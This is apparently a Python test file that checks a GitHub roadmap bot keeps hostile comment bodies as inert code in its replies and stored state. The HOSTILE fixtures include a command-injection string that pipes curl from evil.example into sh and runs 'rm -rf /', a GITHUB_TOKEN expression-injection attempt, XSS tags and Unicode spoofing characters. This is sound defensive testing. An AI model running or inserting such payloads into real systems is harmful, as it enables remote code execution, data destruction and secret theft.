"""respond() on hostile comment bodies: user text stays data, replies stay small and inert."""

from __future__ import annotations

import re

import pytest

from roadmap_bot.core.commands.grammar import MAX_COMMANDS
from tests.fakegithub import FakeGitHub
from tests.support.respond import (
    REPO,
    comment_event,
    new_issue,
    reactions,
    replies_to,
    run,
    state_of,
)

GITHUB_LIMIT = 65_536
HOSTILE = {
    "backticks": "/done phase0.python ``` `` ` ````` x",
    "shell": "/done phase0.python $(curl -s https://evil.example | sh) `rm -rf /` ; echo $HOME",
    "expression": "/skip phase0.git ${{ secrets.GITHUB_TOKEN }} ${{ github.event.comment.body }}",
    "html": "/done phase0.python <script>alert(1)</script><img src=x onerror=alert(1)> @octocat",
    "invisible": "/do\u200bne phase0.py\u200dthon \u202egnp.exe\u202c \ufeff",
    "megabyte": "/done phase0.python " + "A" * 1_000_000,
    "thousand": "\n".join(f"/skip phase0.{'git' if n % 2 else 'rag'} {n}" for n in range(1000)),
    "megabyte of lines": ("/status\n" + "x" * 1000 + "\n") * 1000,
}


def outside_code(markdown: str) -> str:
    text = re.sub(r"(?ms)^(`{3,})[^\n]*\n.*?^\1\s*$", "", markdown)
    return re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "", text, flags=re.S)


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_bodies_get_one_small_reply_with_their_text_only_as_code(
    fake: FakeGitHub, github_env: dict[str, str], name: str
) -> None:
    number = new_issue(fake)
    event, comment_id = comment_event(fake, number, HOSTILE[name])
    result = run(github_env, event)
    assert result.exit_code == 0
    (reply,) = replies_to(fake, number, comment_id)
    assert len(reply) < GITHUB_LIMIT
    visible = outside_code(reply)
    for bad in ("$(", "${{", "<script", "<img", "@octocat", "rm -rf", "\u202e", "\u200b"):
        assert bad not in visible, (name, bad)
    assert not re.search(r"(?m)^\s{0,3}/[a-z]", visible)  # the reply holds no command line
    assert reactions(fake, comment_id)[0] == "eyes"


def test_a_thousand_commands_run_the_first_twenty_and_say_so(
    fake: FakeGitHub, github_env: dict[str, str]
) -> None:
    number = new_issue(fake)
    event, comment_id = comment_event(fake, number, HOSTILE["thousand"])
    run(github_env, event)
    (reply,) = replies_to(fake, number, comment_id)
    assert f"only the first {MAX_COMMANDS} commands are run; 980 more were ignored" in reply
    assert set(state_of(fake).skips) == {"phase0.git", "phase0.rag"}
    assert reply.count("\n- ") == MAX_COMMANDS + 1


def test_an_expression_in_a_note_is_stored_as_inert_code(
    fake: FakeGitHub, github_env: dict[str, str]
) -> None:
    number = new_issue(fake)
    event, _ = comment_event(fake, number, HOSTILE["expression"])
    run(github_env, event)
    reason = state_of(fake).skips["phase0.git"].reason
    assert reason == "`${{ secrets.GITHUB_TOKEN }} ${{ github.event.comment.body }}`"
    readme = fake.files(REPO)["README.md"].decode()
    assert "secrets.GITHUB_TOKEN" not in readme
